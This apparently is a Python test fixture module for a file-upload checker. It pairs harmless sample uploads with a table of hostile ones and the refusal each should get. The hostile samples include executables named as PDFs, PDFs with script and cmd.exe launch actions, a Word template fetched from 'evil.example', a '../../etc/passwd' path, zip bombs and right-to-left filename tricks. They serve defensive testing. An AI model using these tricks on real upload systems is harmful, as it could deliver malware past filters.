"""Files that people upload, and files that do harm, for tests."""

import pikepdf

from submissions.contents import archives
from tests.submissions.conftest import EICAR
from tests.submissions.evidence import documents
from tests.submissions.evidence.documents import (
    HEIC,
    acting,
    archive,
    carrying,
    docx,
    letter,
    letterhead,
    opendocument,
    pdf,
    pdf_with,
    picture,
    pptx,
    protected,
    relationship,
    signed_pdf,
    slides,
    tiff,
    xlsx,
)


def linked(target: str) -> bytes:
    """An OpenDocument text with a picture that lies elsewhere, and with links to click on."""
    spaces = (
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    )
    spaces += ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    links = '<text:a xlink:href="https://a.example"/><draw:a xlink:href="https://a.example"/>'
    content = f'<content {spaces}>{links}<draw:image xlink:href="{target}"/></content>'
    first = ("mimetype", "application/vnd.oasis.opendocument.text")
    return archive(first, ("content.xml", content), ("META-INF/manifest.xml", "<manifest/>"))


GOOD = {
    "گزارش سالانه.pdf": pdf(),
    "IMAGE.PNG": picture(),
    "a.jpg": picture("JPEG"),
    "a.jpeg": picture("JPEG"),
    "a.docx": docx(("word/media/image1.png", picture())),
    "chart.docx": docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", xlsx())),
    "links.docx": docx(
        ("word/_rels/document.xml.rels", relationship("hyperlink", "https://example.org"))
    ),
    "a.xlsx": xlsx(),
    "other.xlsx": xlsx(
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            relationship("externalLinkPath", "b.xlsx"),
        )
    ),
    "a.pptx": pptx(),
    "a.ods": opendocument("spreadsheet"),
    "a.odt": opendocument("text"),
    "pictures.odt": linked("Pictures/1.png"),
    "linked.odt": linked("file:///C:/pictures/1.png"),
    "a.csv": "سنجه,عدد\nآب,۲۰\n".encode(),
    "utf16.txt": "گزارش".encode("utf-16"),
    "windows.txt": "گزارش".encode("cp1256"),
    "a<b.txt": b"if a < b and c > d then",
    "note.csv": "کد,شرح\n1,<link به سند>\n2,متن <form 12>\n".encode(),
    "page.txt": "در سند <script> و <!doctype html> آمده است".encode(),
    "form.txt": "<form 12> کاربرگ".encode(),
    "restricted.pdf": protected(),
    "signed.pdf": signed_pdf("علی رضایی", "وزارت نمونه"),
    "data.pdf": carrying("scores.csv", b"a,b\n1,2\n"),
    "xml.pdf": carrying("factur-x.xml", b"<?xml version='1.0'?><invoice/>"),
    "bom.pdf": b"\xef\xbb\xbf" + pdf(),
    "newline.pdf": b"\r\n" + pdf(),
    "late.pdf": b"HTTP/1.1 200 OK\r\n" * 50 + pdf(),
    "scan.tif": tiff(),
    "scan.tiff": tiff(1),
    "photo.heic": HEIC,
    "photo.HEIF": HEIC,
    "photo.webp": picture("WEBP"),
    "photo.jfif": picture("JPEG"),
    "slides.odp": slides("یک", "دو"),
    "letter.eml": letter(("گزارش.pdf", pdf())),
    "forwarded.eml": b"From MAILER Mon Mar  2 10:15:00 2026\n" + letter(),
    "made.docx": letterhead("file:///C:\\Users\\me\\AppData\\letterhead.dotx"),
    "drive.docx": letterhead("D:\\forms\\letterhead.dotx"),
    "mac.docx": letterhead("file://localhost/Users/me/letterhead.dotx"),
    "normal.docx": letterhead("Normal.dotm"),
    "film.pptx": pptx(
        ("ppt/slides/_rels/slide1.xml.rels", relationship("video", "file:///C:/films/a%20b.mp4"))
    ),
}

BOMB = ("word/media/image1.png", b"\0" * (300 * 2**20))

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

HTML = b"<!doctype html><script>alert(1)</script>"

MACRO_TYPES = documents.TYPES.replace(
    "application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
)

MANY = [(f"word/media/{n}.png", b"") for n in range(archives.MOST_PARTS)]

LARGE = [(f"word/media/{n}.bin", b"\0\1\2\3" * 2**18) for n in range(3)]


def long_list(content: bytes) -> bytes:
    """A document that says its list of parts is 100 MB long."""
    return content[:-10] + (100 * 2**20).to_bytes(4, "little") + content[-6:]


def swollen(content: bytes) -> bytes:
    """A document whose list of parts says that three of them unpack to 400 MB each, and were packed
    well.
    """
    place, name = 0, b"word/media/"
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        if content[place + 46 :].startswith(name):
            sizes = (4 * 2**20).to_bytes(4, "little") + (400 * 2**20).to_bytes(4, "little")
            content = content[: place + 20] + sizes + content[place + 28 :]
    return content


def speaking_of_encryption(document):
    document.pages[0].Contents = document.make_stream(
        b"BT (See clause /Encrypt 5 of the standard) Tj ET"
    )


def hiding_its_kind(document):
    kind = document.make_indirect(pikepdf.Name.JavaScript)
    document.Root.OpenAction = pikepdf.Dictionary(JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction.S = kind


def oddly_packed(document):
    content = pikepdf.Stream(document, b"MZ", Filter=pikepdf.Name.Unknown)
    names = pikepdf.Dictionary(F=pikepdf.String("a.csv"), EF=pikepdf.Dictionary(F=content))
    document.Root.AF = pikepdf.Array([document.make_indirect(names)])


def with_xfa(document):
    form = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp/>"))
    document.Root.AcroForm = form


HIDDEN = b"%PDF-1.7\n1 0 obj\n<< /Length 3 >>\nstream\nabc\nendstream\nendobj\n"

LONG = "گزارش " * 60 + ".pdf"

# what stands in the table: the file's name, its content, and either words of the refusal or the
# name it is kept under
HOSTILE = {
    "a program named as a PDF": ("proof.pdf", b"MZ\x90\0 program", "not what its name says"),
    "a program": ("run.exe", b"MZ\x90\0", "“run.exe” cannot be accepted. Files may be"),
    "a PDF named as a picture": ("proof.png", pdf(), "not what its name says"),
    "a name with a path": ("../../etc/passwd.pdf", pdf(), "passwd.pdf"),
    "a name with a Windows path": ("C:\\Users\\me\\proof.pdf", pdf(), "proof.pdf"),
    "an SVG with script": ("logo.svg", SVG, "“logo.svg” cannot be accepted: print it to PDF"),
    "an SVG named as a picture": ("logo.png", SVG, "not what its name says"),
    "an SVG named as text": ("logo.txt", SVG, "a web page or a drawing"),
    "an HTML page with script": ("page.html", HTML, "“page.html” cannot be accepted: print it to PDF"),
    "an HTML page named as a table": ("page.csv", b"\n\n" + HTML, "a web page or a drawing"),
    "a document with macros": ("report.docm", docx(("word/vbaProject.bin", b"x")), "holds a program"),
    "a document with macros under "
    "another ending": ("a.docx", docx(("word/vbaProject.bin", b"x")), "holds a program"),
    "a document that names macros in its "
    "list of types": ("a.docx", docx(types=MACRO_TYPES), "holds a program"),
    "a document with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
    "a PDF that asks for a password": ("a.pdf", protected(user="secret"), "asks for a password before it opens"),
    "a PDF that only its owner may change": ("a.pdf", protected(), "a.pdf"),
    "a PDF that speaks of encryption": ("a.pdf", pdf_with(speaking_of_encryption), "a.pdf"),
    "a PDF with bytes before its head": ("a.pdf", b"\xef\xbb\xbf" + pdf(), "a.pdf"),
    "a program with a PDF behind it": ("a.pdf", b"MZ\x90\0" + pdf(), "it is a program"),
    "a PDF with a script": ("a.pdf", acting("/JavaScript", JS="app.alert(1)"), "holds a program (a script)"),
    "a PDF that starts a program": ("a.pdf", acting("/Launch", F="cmd.exe"), "starts another program"),
    "a PDF that opens an address by itself": ("a.pdf", acting("/URI", URI="https://a.example"), "by itself"),
    "a PDF that sends its form off": ("a.pdf", acting("/SubmitForm", F="https://a.example"), "sends off or fetches"),
    "a PDF form with a program inside": ("a.pdf", pdf_with(with_xfa), "(XFA)"),
    "a PDF with a program attached": ("a.pdf", carrying("tool.exe", b"MZ"), "another file inside (“tool.exe”)"),
    "a PDF with a program attached under "
    "another name": ("a.pdf", carrying("a.png", b"MZ\0"), "it is a program"),
    "a PDF with a PDF attached that has a script": (
        "a.pdf", carrying("b.pdf", acting("/JavaScript", JS="app.alert(1)")), "holds a program (a script)",
    ),
    "a PDF with its table attached": ("a.pdf", carrying("a.csv", b"a,b"), "a.pdf"),
    "a PDF that is broken and may "
    "hide something": ("a.pdf", HIDDEN, "what is inside cannot be looked at"),
    "a PDF that hides of what kind "
    "its action is": ("a.pdf", pdf_with(hiding_its_kind), "holds a program (a script)"),
    "a PDF with a file attached in an "
    "unknown packing": ("a.pdf", pdf_with(oddly_packed), "cannot be looked at"),
    "a PDF that is broken and names a script": ("a.pdf", b"%PDF-1.7 /S /JavaScript", "print it to PDF anew"),
    "a document that fetches its template": (
        "a.docx", letterhead("https://evil.example/t.dotm"), "its template from outside (“https://evil.example/t.dotm”)",
    ),
    "a document whose template is on a server": (
        "a.docx", letterhead(r"\\server\share\t.dotm"), "write “Normal” as the document template",
    ),
    "a document whose template was on its "
    "writer's disk": ("a.docx", letterhead("file:///C:\\t.dotx"), "a.docx"),
    "a document that fetches a picture": (
        "a.docx",
        docx(("word/_rels/document.xml.rels", relationship("image", "http://a.example/1.png"))),
        "fetches something from outside (“http://a.example/1.png”)",
    ),
    "an OpenDocument text that fetches a picture": (
        "a.odt", linked("http://a.example/1.png"), "fetches something from outside (“http://a.example/1.png”)",
    ),
    "an OpenDocument text that calls a program": (
        "a.odt", linked("vnd.sun.star.script:x?language=Basic"), "holds a program",
    ),
    "words that look like markup": ("a.csv", "متن,<form 12>,<link به سند>".encode(), "a.csv"),
    "a HEIC photograph named as a JPEG": (
        "photo.jpg", HEIC, "it is a HEIC photograph; let its name end in “.heic”",
    ),
    "a JPEG named as a PNG": ("photo.png", picture("JPEG"), "it is a JPEG picture; let its name end in “.jpg”"),
    "an old Word document": ("a.doc", b"\xd0\xcf\x11\xe0", "save it as DOCX, XLSX or PPTX, or print it to PDF"),
    "an archive": ("a.zip", archive(("x", "y")), "unpack it, and upload its files one by one"),
    "an e-mail": ("a.eml", letter(("a.pdf", pdf())), "a.eml"),
    "an e-mail with a program": ("a.eml", letter(("tool.exe", b"MZ")), "carries a program (“tool.exe”)"),
    "a web page named as an e-mail": ("a.eml", HTML, "it is a web page or a drawing"),
    "a document with an embedded object": (
        "a.docx", docx(("word/embeddings/oleObject1.bin", b"x")), "another file inside",
    ),
    "a document with an archive inside": ("a.docx", docx(("word/media/a.zip", archive(("x", "y")))), "file inside"),
    "a zip bomb": ("a.docx", docx(BOMB), "far more than a document holds"),
    "a zip bomb of many parts": ("a.docx", docx(*MANY), "more than 5,000 parts"),
    "a zip bomb whose list of parts is long": ("a.docx", long_list(docx()), "more than 5,000 parts"),
    "a zip bomb that is large": ("a.docx", swollen(docx(*LARGE)), "far more than a document holds"),
    "a zip bomb within a document": ("a.docx", docx(("word/embeddings/a.xlsx", xlsx(BOMB))), "far more than"),
    "an archive that is broken": ("a.docx", docx()[:-30], "cannot be unpacked"),
    "an archive named as a document": ("a.docx", archive(("x.txt", "y")), "not what its name says"),
    "an empty file": ("a.pdf", b"", "“a.pdf” is empty"),
    "a very long name": (LONG, pdf(), LONG[:116].strip() + ".pdf"),
    "a right-to-left override that "
    "hides a program": ("r\u202efdp.exe", b"MZ", "“rfdp.exe” cannot be accepted"),
    "a right-to-left override in a good name": ("\u2067گزارش\u202exslx\u200f.pdf", pdf(), "گزارشxslx.pdf"),
    "control characters in a name": ("a\0b\r\nc\x1b.pdf", pdf(), "ab c.pdf"),
    "the EICAR test file": ("a.txt", EICAR, "a.txt"),
    "the EICAR test file within a document": ("a.docx", docx(("word/media/a.txt", EICAR)), "a.docx"),
    "a picture of a thousand million pixels": ("a.png", documents.huge_picture(), "a.png"),
    "a PDF that is broken": ("a.pdf", b"%PDF-1.7 and no more", "a.pdf"),
}  # fmt: skip

UNDRAWN = {
    "a picture of a thousand million pixels",
    "a PDF that is broken",
    "a document whose template was on its writer's disk",
    "words that look like markup",
    "an e-mail",
}
